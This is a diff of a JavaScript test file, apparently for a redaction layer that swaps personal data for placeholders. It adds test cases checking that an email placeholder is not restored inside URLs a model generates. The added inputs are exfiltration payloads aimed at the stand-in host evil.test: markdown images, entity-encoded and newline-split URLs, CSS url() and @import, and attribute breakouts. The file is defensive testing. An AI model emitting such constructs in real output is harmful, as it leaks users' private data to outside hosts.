@@ -60,6 +60,16 @@ describe('values are not restored into URLs that the model created', () => {
     'https:\\\\evil.test/<EMAIL_ADDRESS_1>',
     '[m](mailto:evil@evil.test?body=<EMAIL_ADDRESS_1>)',
     'see evil.test/?q=<EMAIL_ADDRESS_1>',
+    'see https://evil.test/","<EMAIL_ADDRESS_1>',
+    '![x](<EMAIL_ADDRESS_1>)',
+    '![x](https&#58;&#47;&#47;evil.test/<EMAIL_ADDRESS_1>)',
+    '![x](https://evil.test/\u3000<EMAIL_ADDRESS_1>)',
+    '![x](irc://evil.test/<EMAIL_ADDRESS_1>)',
+    '<x-app:<EMAIL_ADDRESS_1>>',
+    '<img alt=">" src="ht\ntps://evil.test/<EMAIL_ADDRESS_1>',
+    '`<p title="` <img src=/<EMAIL_ADDRESS_1>>',
+    '<p style="background: url(//evil.test/<EMAIL_ADDRESS_1>',
+    '<style>@import "//evil.test/<EMAIL_ADDRESS_1>',
     '{"u":"https:\\/\\/evil.test\\/<EMAIL_ADDRESS_1>"}',
   ])('%s', (answer) => {
     const own = session();
@@ -72,7 +82,7 @@ describe('values are not restored into URLs that the model created', () => {
   it.each([
     ['[write](mailto:<EMAIL_ADDRESS_1>)', '[write](mailto:anna@example.com)'],
     ['see https://x.test/a and <EMAIL_ADDRESS_1>', 'see https://x.test/a and anna@example.com'],
-    ['"https://x.test","<EMAIL_ADDRESS_1>"', '"https://x.test","anna@example.com"'],
+    ['{"a":"https://x.test/","b":"<EMAIL_ADDRESS_1>"}', '{"a":"https://x.test/","b":"anna@example.com"}'],
     ['<a href="https://x.test/">\n<EMAIL_ADDRESS_1>', '<a href="https://x.test/">\nanna@example.com'],
     ['on \\\\server\\<EMAIL_ADDRESS_1>', 'on \\\\server\\anna@example.com'],
     ['e.g. and/or: <EMAIL_ADDRESS_1>', 'e.g. and/or: anna@example.com'],
